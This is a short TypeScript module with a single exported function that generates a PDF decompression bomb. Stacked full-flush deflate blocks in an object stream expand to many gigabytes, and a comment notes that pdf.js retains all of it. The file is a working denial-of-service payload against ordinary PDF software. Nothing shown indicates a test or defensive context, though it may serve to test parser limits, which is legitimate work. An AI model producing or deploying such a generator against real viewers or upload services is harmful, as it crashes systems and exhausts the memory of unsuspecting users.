import { constants, deflateRawSync } from 'node:zlib';

/**
 * A small PDF whose object stream inflates to `gigabytes` of blanks, which whoever looks for the catalogue reads
 * through: pdf.js keeps them all.
 */
export function pdfBomb(gigabytes: number): Uint8Array {
  const block = deflateRawSync(Buffer.alloc(64 * 1024 * 1024), {
    level: 9,
    finishFlush: constants.Z_FULL_FLUSH,
  });
  const packed = Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: gigabytes * 16 }, () => block),
    Buffer.from([3, 0]),
  ]);
  const head = Buffer.from('%PDF-1.5\n');
  const opening = Buffer.from('2 0 obj\n<</Type/XRef/Size 4/W[1 2 1]/Root 1 0 R/Length 16>>\nstream\n');
  // Object 1 lies in stream 3; 2 is this table; 3 follows it.
  const table = Buffer.from([0, 0, 0, 0, 2, 0, 3, 0, 1, 0, head.length, 0, 1, 0, 0, 0]);
  const closing = Buffer.from('\nendstream\nendobj\n');
  table.writeUInt16BE(head.length + opening.length + table.length + closing.length, 13);
  return Buffer.concat([
    head,
    opening,
    table,
    closing,
    Buffer.from(`3 0 obj\n<</Type/ObjStm/N 1/First 8/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`),
    packed,
    closing,
    Buffer.from(`startxref\n${head.length}\n%%EOF`),
  ]);
}
